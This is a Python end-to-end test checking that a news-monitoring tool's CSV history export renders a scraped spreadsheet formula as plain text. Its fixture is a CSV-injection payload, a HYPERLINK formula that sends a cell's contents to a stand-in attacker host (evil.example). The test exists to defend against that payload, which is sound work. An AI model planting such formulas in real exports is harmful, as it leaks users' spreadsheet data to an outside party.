"""`figwatch history --format csv` of a page that writes a spreadsheet formula: shown as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from pipeline.demo.sinks import SmtpSink, WebhookSink
from tests.e2e.news import page
from tests.e2e.test_processes import figwatch, write_config
from tests.servers import LoopbackServer

FORMULA = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"At least 12 civilians were killed in the '
    'attack, the governor said.")'
)


def test_a_formula_sentence_is_exported_as_text(
    database_url: str, site: LoopbackServer, smtp: SmtpSink, hook: WebhookSink, tmp_path: Path
) -> None:
    config = write_config(tmp_path / "figwatch.toml", database_url, site, smtp, hook)
    site.add("/news/marden", page([FORMULA], updated="09:00"))
    assert figwatch("--config", str(config), "check").returncode == 0

    done = figwatch("--config", str(config), "history", "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    assert [row["sentence"] for row in rows] == ["'" + FORMULA]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
